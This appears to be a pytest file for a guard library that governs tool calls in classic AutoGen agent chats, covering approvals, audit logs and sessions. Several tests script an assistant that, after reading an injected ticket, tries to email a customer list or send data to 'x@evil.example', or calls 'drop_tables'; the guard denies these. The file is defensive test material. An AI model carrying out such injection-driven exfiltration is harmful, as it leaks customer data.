"""Tether on real classic AutoGen agents: two-agent and group chats, sync and async."""

from __future__ import annotations

import asyncio
import json
import threading
import time
from typing import Any

import pytest

from tether.autogen.classic import register_guard
from tether.core import ApprovalAnswer, ApprovalQueue, AuditStore, Guard, QueueApprover, TetherError
from tether.core.audit import verify

from .conftest import (
    KEY,
    POLICY,
    Answer,
    Tools,
    assistant,
    calls,
    contents,
    events,
    executor,
    say,
    script,
    tool_call,
)


def pair(guard: Guard, tools: Tools, *messages: dict[str, Any], **options: Any) -> tuple[Any, Any, list[Any]]:
    """An assistant proposing the scripted calls and a user proxy executing them, both guarded."""
    bot, user = assistant(), executor()
    tools.register(bot, user)
    seen = script(bot, *messages, say("done TERMINATE"))
    register_guard([bot, user], guard, **options)
    return bot, user, seen


def chat(user: Any, bot: Any) -> list[dict[str, Any]]:
    return user.initiate_chat(bot, message="help the customer", max_turns=6, silent=True).chat_history


def test_allowed_call_runs_once_and_the_audit_holds_the_chain(guard: Guard, tools: Tools, store: AuditStore) -> None:
    bot, user, _ = pair(guard, tools, tool_call("lookup", {"query": "order 7"}))
    history = chat(user, bot)

    assert tools.ran == [("lookup", {"query": "order 7"})]
    assert "found order 7" in contents(history)
    response = next(e for e in events(store, "model.response") if e.details["tool_calls"])
    decision = events(store, "tool.decision")[0]
    result = events(store, "tool.result")[0]
    assert (decision.agent, decision.tool, decision.verdict) == ("assistant", "lookup", "allow")
    assert decision.parent_id == response.event_id
    assert decision.details["context"] == {"framework": "autogen", "executor": "user"}
    assert result.parent_id == decision.event_id
    assert result.details["output"] == "found order 7"
    assert verify(KEY, store.events()).ok


def test_injected_ticket_taints_the_session_and_stops_the_email(guard: Guard, tools: Tools, store: AuditStore) -> None:
    bot, user, _ = pair(
        guard,
        tools,
        tool_call("fetch_ticket", {"ticket": "7"}),
        tool_call("send_email", {"to": "bob@acme.example", "body": "customer list"}),
    )
    history = chat(user, bot)

    assert tools.count("fetch_ticket") == 1
    assert tools.count("send_email") == 0
    denied = events(store, "tool.decision")[-1]
    assert denied.details["rule_ids"] == ["external-after-untrusted"]
    assert "external action after untrusted content" in contents(history)


def test_approver_edits_the_arguments(store: AuditStore, tools: Tools) -> None:
    guard = Guard(
        POLICY, store=store, approver=Answer(ApprovalAnswer(True, "alice", args={"order": "A1", "amount": 60}))
    )
    bot, user, _ = pair(guard, tools, tool_call("refund", {"order": "A1", "amount": 120}))
    chat(user, bot)

    assert tools.ran == [("refund", {"order": "A1", "amount": 60})]


def test_refused_approval_denies(store: AuditStore, tools: Tools) -> None:
    guard = Guard(POLICY, store=store, approver=Answer(ApprovalAnswer(False, "alice", comment="no")))
    bot, user, _ = pair(guard, tools, tool_call("refund", {"order": "A1", "amount": 120}))
    history = chat(user, bot)

    assert tools.count("refund") == 0
    assert "denied by alice" in contents(history)


def test_malformed_arguments_never_run_and_are_recorded(guard: Guard, tools: Tools, store: AuditStore) -> None:
    bot, user, seen = pair(guard, tools, tool_call("lookup", '{"query": "order 7"'))
    chat(user, bot)

    assert tools.ran == []
    decision = events(store, "tool.decision")[0]
    assert decision.details["args"] == {"unparsed_arguments": '{"query": "order 7"'}
    assert "JSON" in contents(seen[-1])  # the framework's own parse error reached the model


def test_unknown_function_is_denied_and_recorded(guard: Guard, tools: Tools, store: AuditStore) -> None:
    bot, user, seen = pair(guard, tools, tool_call("drop_tables", {"confirm": True}))
    chat(user, bot)

    decision = events(store, "tool.decision")[0]
    assert (decision.tool, decision.verdict) == ("drop_tables", "deny")
    assert "Tether denied the call to 'drop_tables'" in contents(seen[-1])


def test_registering_twice_decides_once(guard: Guard, tools: Tools, store: AuditStore) -> None:
    bot, user, _ = pair(guard, tools, tool_call("lookup", {"query": "x"}))
    again = register_guard([bot, user], guard)
    chat(user, bot)

    assert again.agents == []
    assert len(events(store, "tool.decision")) == 1
    assert tools.count("lookup") == 1
    with pytest.raises(TetherError, match="another Guard"):
        register_guard(user, Guard(POLICY, store=store))


def test_each_chat_is_a_session_unless_one_is_given(guard: Guard, tools: Tools, store: AuditStore) -> None:
    bot, user, _ = pair(
        guard, tools, tool_call("lookup", {"query": "a"}), say("ok TERMINATE"), tool_call("lookup", {"query": "b"})
    )
    chat(user, bot)
    chat(user, bot)
    sessions = [e.session_id for e in events(store, "tool.decision")]
    assert len(sessions) == 2 and sessions[0] != sessions[1]

    fixed_bot, fixed_user, _ = pair(
        guard,
        Tools(),
        tool_call("lookup", {"query": "c"}),
        say("ok TERMINATE"),
        tool_call("lookup", {"query": "d"}),
        session_id="ticket-42",
    )
    chat(fixed_user, fixed_bot)
    chat(fixed_user, fixed_bot)
    assert [e.verdict for e in store.session_events("ticket-42") if e.kind == "tool.decision"] == ["allow", "allow"]


def test_the_models_text_replies_are_recorded(guard: Guard, tools: Tools, store: AuditStore) -> None:
    bot, user, _ = pair(guard, tools, say("my card is 4111 1111 1111 1111"))
    chat(user, bot)

    texts = [e for e in events(store, "model.response") if e.agent == "assistant" and not e.details["tool_calls"]]
    assert texts and "4111 1111 1111 1111" not in str(texts[0].details)  # stored redacted
    assert texts[0].details["labels"]


def test_group_chat_is_governed_in_the_proposers_name(guard: Guard, tools: Tools, store: AuditStore) -> None:
    bot, researcher, user = assistant(), assistant("researcher"), executor()
    tools.register(bot, user, "lookup")
    tools.register(researcher, user, "send_email")
    script(bot, tool_call("lookup", {"query": "order 7"}), say("done"))
    seen = script(researcher, tool_call("send_email", {"to": "bob@acme.example", "body": "hi"}), say("TERMINATE"))
    group = autogen.GroupChat([user, bot, researcher], messages=[], max_round=8, speaker_selection_method=_next_speaker)
    manager = autogen.GroupChatManager(
        group, llm_config=False, is_termination_msg=lambda m: "TERMINATE" in str(m.get("content"))
    )
    register_guard(manager, guard)
    user.initiate_chat(manager, message="help", silent=True)

    assert tools.ran == [("lookup", {"query": "order 7"})]  # the researcher may not email
    decisions = events(store, "tool.decision")
    assert [(d.agent, d.tool, d.verdict) for d in decisions] == [
        ("assistant", "lookup", "allow"),
        ("researcher", "send_email", "deny"),
    ]
    assert len({d.session_id for d in decisions}) == 1
    assert "Tether denied the call to 'send_email'" in contents(seen[-1])


def _next_speaker(last: Any, group: Any) -> Any:
    """user -> assistant -> user (runs its call) -> researcher -> user (runs its call) -> ..."""
    by_name = {a.name: a for a in group.agents}
    if group.messages and group.messages[-1].get("tool_calls"):
        return by_name["user"]
    order = ["assistant", "researcher"]
    spoken = sum(1 for m in group.messages if m.get("name") in order and not m.get("tool_calls"))
    return by_name[order[min(spoken, 1)]] if last.name == "user" else by_name["user"]


import autogen  # noqa: E402


def test_async_chat_is_governed(guard: Guard, store: AuditStore) -> None:
    ran: list[str] = []

    async def lookup(query: str) -> str:
        ran.append(query)
        return f"found {query}"

    async def send_email(to: str, body: str) -> str:
        ran.append(to)
        return "sent"

    bot, user = assistant(), executor()
    autogen.register_function(lookup, caller=bot, executor=user, description="lookup")
    autogen.register_function(send_email, caller=bot, executor=user, description="email")
    seen = script(
        bot, calls(("lookup", {"query": "a"}), ("send_email", {"to": "x@evil.example", "body": "b"})), say("TERMINATE")
    )
    register_guard([bot, user], guard)
    asyncio.run(user.a_initiate_chat(bot, message="go", max_turns=4, silent=True))

    assert ran == ["a"]
    assert "Tether denied the call to 'send_email'" in contents(seen[-1])
    assert [e.verdict for e in events(store, "tool.decision")] == ["allow", "deny"]


def test_concurrent_conversations_keep_their_own_sessions(guard: Guard, store: AuditStore) -> None:
    agents = []
    for n in range(2):
        tools = Tools()
        bot, user = assistant(), executor(f"user{n}")
        tools.register(bot, user, "lookup")
        script(bot, tool_call("lookup", {"query": f"q{n}"}), tool_call("lookup", {"query": f"r{n}"}), say("TERMINATE"))
        agents.append((bot, user))
    register_guard([a for p in agents for a in p], guard)

    async def both() -> None:
        await asyncio.gather(*(u.a_initiate_chat(b, message="go", max_turns=4, silent=True) for b, u in agents))

    asyncio.run(both())
    decisions = events(store, "tool.decision")
    assert len(decisions) == 4
    by_session: dict[str, set[str]] = {}
    for d in decisions:
        by_session.setdefault(d.session_id, set()).add(d.details["context"]["executor"])
    assert sorted(by_session.values(), key=sorted) == [{"user0"}, {"user1"}]
    assert verify(KEY, store.events()).ok


def test_a_nested_chat_is_governed_in_the_outer_chats_session(guard: Guard, tools: Tools, store: AuditStore) -> None:
    writer, checker, inner, user = assistant("writer"), assistant(), executor("inner"), executor()
    tools.register(checker, inner, "send_email")
    script(writer, say("draft ready"), say("thanks TERMINATE"))
    seen = script(checker, tool_call("send_email", {"to": "x@evil.example", "body": "draft"}), say("TERMINATE"))
    nested = {"recipient": checker, "sender": inner, "message": "check the draft", "max_turns": 3}
    user.register_nested_chats([nested], trigger=writer)
    register_guard([writer, checker, inner, user], guard)
    user.initiate_chat(writer, message="write", max_turns=2, silent=True)

    assert tools.count("send_email") == 0
    assert "Tether denied the call to 'send_email'" in contents(seen[-1])
    decision = events(store, "tool.decision")[0]
    assert (decision.agent, decision.details["context"]["executor"]) == ("assistant", "inner")
    outer = next(e for e in events(store, "model.response") if e.agent == "writer")
    assert decision.session_id == outer.session_id


def test_async_tools_in_a_sync_chat_are_governed(guard: Guard, store: AuditStore) -> None:
    ran: list[str] = []

    async def lookup(query: str) -> str:
        ran.append(query)
        return f"found {query}"

    async def send_email(to: str, body: str) -> str:
        ran.append(to)
        return "sent"

    bot, user = assistant(), executor()
    autogen.register_function(lookup, caller=bot, executor=user, description="lookup")
    autogen.register_function(send_email, caller=bot, executor=user, description="email")
    seen = script(
        bot,
        tool_call("lookup", {"query": "a"}),
        tool_call("send_email", {"to": "x@evil.example", "body": "b"}),
        say("TERMINATE"),
    )
    register_guard([bot, user], guard)
    chat(user, bot)

    assert ran == ["a"]
    assert "Tether denied the call to 'send_email'" in contents(seen[-1])
    assert [(e.agent, e.verdict) for e in events(store, "tool.decision")] == [
        ("assistant", "allow"),
        ("assistant", "deny"),
    ]


def test_legacy_function_calls_are_governed(guard: Guard, tools: Tools, store: AuditStore) -> None:
    def function_call(name: str, arguments: dict[str, Any]) -> dict[str, Any]:
        return {
            "role": "assistant",
            "content": None,
            "function_call": {"name": name, "arguments": json.dumps(arguments)},
        }

    bot, user, seen = pair(
        guard,
        tools,
        function_call("lookup", {"query": "a"}),
        function_call("send_email", {"to": "x@evil.example", "body": "b"}),
    )
    chat(user, bot)

    assert tools.ran == [("lookup", {"query": "a"})]
    assert "Tether denied the call to 'send_email'" in contents(seen[-1])
    decisions = events(store, "tool.decision")
    assert [(d.agent, d.verdict) for d in decisions] == [("assistant", "allow"), ("assistant", "deny")]
    assert all(d.parent_id for d in decisions)  # linked to the model message that proposed them


def test_reused_call_ids_link_each_call_to_its_own_message(guard: Guard, tools: Tools, store: AuditStore) -> None:
    first, second = tool_call("lookup", {"query": "a"}), tool_call("lookup", {"query": "b"})
    second["tool_calls"][0]["id"] = first["tool_calls"][0]["id"]  # some local models number calls per message
    bot, user, _ = pair(guard, tools, first, second)
    chat(user, bot)

    assert tools.ran == [("lookup", {"query": "a"}), ("lookup", {"query": "b"})]
    responses = [e.event_id for e in events(store, "model.response") if e.details["tool_calls"]]
    assert [d.parent_id for d in events(store, "tool.decision")] == responses
    assert len(set(responses)) == 2


def test_an_approval_through_the_queue_allows_exactly_one_run(store: AuditStore, tools: Tools) -> None:
    policy = {**POLICY, "approvals": {"timeout": "60s"}}  # answered well before; no timing involved
    guard = Guard(policy, store=store, approver=QueueApprover(store, poll=0.05))
    refund = {"order": "A1", "amount": 120}
    bot, user, _ = pair(guard, tools, tool_call("refund", refund), tool_call("refund", refund))
    queue = ApprovalQueue(store)
    answers = iter([True, False])  # the same call again needs its own answer

    def answer_each() -> None:
        answered: set[str] = set()
        while len(answered) < 2:
            for entry in queue.entries():
                if entry.id not in answered:
                    queue.answer(entry.id, approved=next(answers), by="alice")
                    answered.add(entry.id)
            time.sleep(0.02)

    person = threading.Thread(target=answer_each, daemon=True)
    person.start()
    history = chat(user, bot)
    person.join(timeout=30)

    assert tools.ran == [("refund", refund)]
    assert "refunded 120 on A1" in contents(history)
    assert "denied by alice" in contents(history)
    assert [e.verdict for e in events(store, "approval")] == ["allow", "deny"]


def test_an_async_group_chat_is_governed(guard: Guard, tools: Tools, store: AuditStore) -> None:
    bot, researcher, user = assistant(), assistant("researcher"), executor()
    tools.register(bot, user, "lookup")
    tools.register(researcher, user, "send_email")
    script(bot, tool_call("lookup", {"query": "order 7"}), say("done"))
    script(researcher, tool_call("send_email", {"to": "bob@acme.example", "body": "hi"}), say("TERMINATE"))
    group = autogen.GroupChat([user, bot, researcher], messages=[], max_round=8, speaker_selection_method=_next_speaker)
    manager = autogen.GroupChatManager(group, llm_config=False, is_termination_msg=lambda m: "TERMINATE" in str(m))
    register_guard(manager, guard)
    asyncio.run(user.a_initiate_chat(manager, message="help", silent=True))

    assert tools.ran == [("lookup", {"query": "order 7"})]
    decisions = events(store, "tool.decision")
    assert [(d.agent, d.tool, d.verdict) for d in decisions] == [
        ("assistant", "lookup", "allow"),
        ("researcher", "send_email", "deny"),
    ]
